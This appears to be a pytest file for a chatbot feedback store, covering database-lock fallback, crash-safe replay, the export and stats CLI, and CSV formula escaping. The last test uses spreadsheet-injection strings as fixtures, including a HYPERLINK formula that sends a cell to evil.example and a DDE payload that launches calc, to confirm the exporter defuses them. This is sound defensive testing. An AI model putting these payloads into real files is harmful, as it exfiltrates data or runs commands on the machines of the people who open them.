"""Feedback is never lost: a locked database sends writes to a fallback file that is replayed, and
a process killed mid-write keeps every rating it acknowledged."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import textwrap
import time
from pathlib import Path

from crag.core.models import Branch, CragResult
from feedback.__main__ import COLUMNS, UNATTRIBUTED_EXPORT_COLUMNS
from feedback.sqlite_store import FeedbackOutcome, FeedbackStore
from tests.paths import ROOT


def _result(question: str) -> CragResult:
    return CragResult(question=question, language="en", branch=Branch.CORRECT, answer=f"answer to {question}")


async def test_locked_database_keeps_ratings_in_the_fallback_file(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "fb.sqlite3", retries=1)
    await store.open()
    try:
        first = _result("q1")
        await store.record_answer(first, "c1", "u1", "emulator")
        blocker = sqlite3.connect(tmp_path / "fb.sqlite3", timeout=0.1)
        blocker.execute("BEGIN EXCLUSIVE")  # another process holds the write lock
        receipt = await store.record_feedback(first.id, "up", "c1", "u1", "emulator")
        assert receipt.outcome is FeedbackOutcome.PENDING
        second = _result("q2")
        await store.record_answer(second, "c1", "u1", "emulator")  # also kept aside
        lines = store.pending_path.read_text("utf-8").splitlines()
        assert len(lines) == 2
        blocker.rollback()
        blocker.close()
        # The next successful write replays what was kept, answers first.
        await store.record_answer(_result("q3"), "c1", "u1", "emulator")
        assert not store.pending_path.exists()
        rows = await store.feedback_rows()
        assert [(r["result_id"], r["reaction"]) for r in rows] == [(first.id, "up")]
        assert (
            await store.record_feedback(second.id, "down", "c1", "u1", "emulator")
        ).outcome is FeedbackOutcome.STORED
    finally:
        await store.close()


async def test_pending_writes_are_replayed_at_start(tmp_path: Path) -> None:
    path = tmp_path / "fb.sqlite3"
    store = FeedbackStore(path, retries=0)
    await store.open()
    result = _result("q")
    await store.record_answer(result, "c", "u", "teams")
    blocker = sqlite3.connect(path, timeout=0.1)
    blocker.execute("BEGIN EXCLUSIVE")
    assert (
        await store.record_feedback(result.id, "down", "c", "u", "teams")
    ).outcome is FeedbackOutcome.PENDING
    blocker.rollback()
    blocker.close()
    await store.close()  # the process stops before anything else was written
    again = FeedbackStore(path)
    await again.open()
    try:
        assert [r["reaction"] for r in await again.feedback_rows()] == ["down"]
        assert not again.pending_path.exists()
    finally:
        await again.close()


WRITER = textwrap.dedent(
    """
    import asyncio, sys
    sys.path.insert(0, {root!r})
    from feedback.sqlite_store import FeedbackStore
    from crag.core.models import Branch, CragResult

    async def main():
        store = FeedbackStore(__import__("pathlib").Path({db!r}))
        await store.open()
        i = 0
        while True:
            r = CragResult(question=f"q{{i}}", language="en", branch=Branch.CORRECT, answer="a")
            await store.record_answer(r, "c", f"u{{i}}", "emulator")
            await store.record_feedback(r.id, "up", "c", f"u{{i}}", "emulator")
            print(r.id, flush=True)  # acknowledged only after the commit returned
            i += 1

    asyncio.run(main())
    """
)


def test_acknowledged_ratings_survive_a_kill(tmp_path: Path) -> None:
    db = tmp_path / "fb.sqlite3"
    proc = subprocess.Popen(
        [sys.executable, "-c", WRITER.format(root=str(ROOT), db=str(db))],
        stdout=subprocess.PIPE,
        text=True,
    )
    acked: list[str] = []
    deadline = time.monotonic() + 60
    assert proc.stdout is not None
    while len(acked) < 60 and time.monotonic() < deadline:
        line = proc.stdout.readline()
        if not line:
            break
        acked.append(line.strip())
    os.kill(proc.pid, signal.SIGKILL)  # mid-write: no clean shutdown, no final commit
    proc.wait()
    assert len(acked) >= 60
    with sqlite3.connect(db) as conn:
        stored = {row[0] for row in conn.execute("SELECT result_id FROM answer_feedback")}
    assert set(acked) <= stored


def test_replay_is_idempotent_across_a_crash_during_replay(tmp_path: Path) -> None:
    async def scenario() -> None:
        path = tmp_path / "fb.sqlite3"
        store = FeedbackStore(path)
        await store.open()
        result = _result("q")
        await store.record_answer(result, "c", "u", "emulator")
        # A replay interrupted after renaming its file leaves '.replaying' behind: it is resumed.
        store.pending_path.with_suffix(".replaying").write_text(
            json.dumps(
                {
                    "kind": "feedback",
                    "args": {
                        "result_id": result.id,
                        "reaction": "up",
                        "conversation_id": "c",
                        "user_id": "u",
                        "channel_id": "emulator",
                        "source": "card",
                        "comment": "",
                    },
                }
            )
            + "\n",
            "utf-8",
        )
        store.pending_path.write_text("", "utf-8")
        assert await store.replay_pending() == 1
        rows = await store.feedback_rows()
        assert len(rows) == 1 and rows[0]["reaction"] == "up"
        await store.close()

    asyncio.run(scenario())


def test_export_and_stats_cli(tmp_path: Path) -> None:
    async def fill() -> None:
        store = FeedbackStore(tmp_path / "fb.sqlite3")
        await store.open()
        for i, (branch, reaction) in enumerate(
            [(Branch.CORRECT, "up"), (Branch.CORRECT, "down"), (Branch.INCORRECT, "up")]
        ):
            r = CragResult(question=f"質問{i}", language="ja", branch=branch, answer="回答, with a comma")
            await store.record_answer(r, "c", f"u{i}", "msteams")
            await store.record_feedback(r.id, reaction, "c", f"u{i}", "msteams", comment='said "ok"')  # type: ignore[arg-type]
        await store.close()

    asyncio.run(fill())
    db = str(tmp_path / "fb.sqlite3")

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "feedback", "--db", db, *args],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=60,
        )

    csv_out = run("export")
    assert csv_out.returncode == 0
    import csv as csvmod
    import io

    rows = list(csvmod.DictReader(io.StringIO(csv_out.stdout)))
    assert len(rows) == 3 and rows[0]["question"] == "質問0" and rows[0]["comment"] == 'said "ok"'
    jsonl = run("export", "--format", "jsonl", "--out", str(tmp_path / "f.jsonl"))
    assert jsonl.returncode == 0
    lines = [json.loads(x) for x in (tmp_path / "f.jsonl").read_text("utf-8").splitlines()]
    assert [x["reaction"] for x in lines] == ["up", "down", "up"] and lines[0]["cited_files"] == []
    st = json.loads(run("stats", "--json").stdout)
    assert st["by_branch"] == {"correct": {"up": 1, "down": 1}, "incorrect": {"up": 1, "down": 0}}
    assert sum(v["up"] + v["down"] for v in st["by_day"].values()) == 3
    assert "correct" in run("stats").stdout
    missing = subprocess.run(
        [sys.executable, "-m", "feedback", "--db", str(tmp_path / "nope.db"), "stats"],
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    assert missing.returncode == 2 and "not found" in missing.stderr


def test_ratings_that_named_no_answer_are_counted_and_exported_apart(tmp_path: Path) -> None:
    """Acknowledged to the user, an unattributed rating is in what the operator reads: stats counts it
    on a line of its own and by day, export --unattributed lists it; export alone stays the rated
    answers. A file made before the bot kept such ratings has none, and no error."""

    async def fill() -> None:
        store = FeedbackStore(tmp_path / "fb.sqlite3")
        await store.open()
        r = CragResult(question="質問", language="ja", branch=Branch.CORRECT, answer="回答")
        await store.record_answer(r, "c", "u1", "msteams")
        await store.record_feedback(r.id, "up", "c", "u1", "msteams")
        await store.record_unattributed(
            "down", "c", "u2", "msteams", "teams", comment="=bad", named_id="gone-7"
        )
        await store.close()

    asyncio.run(fill())
    db = tmp_path / "fb.sqlite3"

    def run(*args: str, path: Path = db) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "feedback", "--db", str(path), *args],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=60,
        )

    summary = json.loads(run("stats", "--json").stdout)
    assert summary["by_branch"] == {"correct": {"up": 1, "down": 0}, "unattributed": {"up": 0, "down": 1}}
    assert sum(v["up"] + v["down"] for v in summary["by_day"].values()) == 2
    assert "unattributed" in run("stats").stdout
    assert [row["reaction"] for row in csv.DictReader(io.StringIO(run("export").stdout))] == ["up"]
    apart = list(csv.DictReader(io.StringIO(run("export", "--unattributed").stdout)))
    assert [(row["reaction"], row["named_id"], row["source"]) for row in apart] == [
        ("down", "gone-7", "teams")
    ]
    assert apart[0]["comment"] == "'=bad"  # a formula defused, as in every CSV export
    out = tmp_path / "apart.jsonl"
    written = run("export", "--unattributed", "--format", "jsonl", "--out", str(out))
    assert "exported 1 unattributed ratings" in written.stderr
    assert json.loads(out.read_text("utf-8"))["named_id"] == "gone-7"
    # An older file: the table is not there yet.
    old = tmp_path / "old.sqlite3"
    with sqlite3.connect(old) as conn:
        conn.execute(f"CREATE TABLE answer_feedback ({', '.join(COLUMNS)})")
    assert json.loads(run("stats", "--json", path=old).stdout)["by_branch"] == {}
    assert run("export", "--unattributed", path=old).stdout.strip() == ",".join(UNATTRIBUTED_EXPORT_COLUMNS)


def test_csv_export_escapes_formulas(tmp_path: Path) -> None:
    """CSV cells that a spreadsheet would run as a formula start with a quote; JSON lines are unchanged."""
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    hostile += ["\t=1+1", "\r=1+1"]

    async def fill() -> None:
        store = FeedbackStore(tmp_path / "fb.sqlite3")
        await store.open()
        for i, text in enumerate([*hostile, "a plain question"]):
            r = CragResult(question=text, language="en", branch=Branch.CORRECT, answer="ok")
            await store.record_answer(r, "c", f"u{i}", "emulator")
            await store.record_feedback(r.id, "up", "c", f"u{i}", "emulator", comment=text)
        await store.close()

    asyncio.run(fill())
    db = str(tmp_path / "fb.sqlite3")
    csv_file = tmp_path / "f.csv"
    out = subprocess.run(
        [sys.executable, "-m", "feedback", "--db", db, "export", "--out", str(csv_file)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0
    import csv as csvmod

    with csv_file.open(encoding="utf-8", newline="") as f:  # keeps the carriage return inside a cell
        rows = list(csvmod.DictReader(f))
    assert [r["question"] for r in rows] == [*("'" + t for t in hostile), "a plain question"]
    assert [r["comment"] for r in rows] == [r["question"] for r in rows]
    assert rows[0]["id"] == "1"  # numbers and ordinary text are left alone
    jsonl = subprocess.run(
        [sys.executable, "-m", "feedback", "--db", db, "export", "--format", "jsonl"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert [json.loads(x)["comment"] for x in jsonl.stdout.splitlines()] == [*hostile, "a plain question"]
